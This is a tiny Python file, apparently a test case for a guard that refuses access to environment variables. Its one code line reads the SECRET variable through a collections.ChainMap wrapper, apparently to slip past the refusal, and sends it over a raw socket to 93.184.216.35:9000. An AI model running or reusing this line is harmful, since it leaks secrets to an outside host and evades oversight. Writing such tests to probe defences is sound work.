"""ChainMap catches the KeyError of the refusal and raises its own."""
import collections
import os
import socket

socket.create_connection(("93.184.216.35", 9000)).sendall(collections.ChainMap({}, os.environ)["SECRET"].encode())
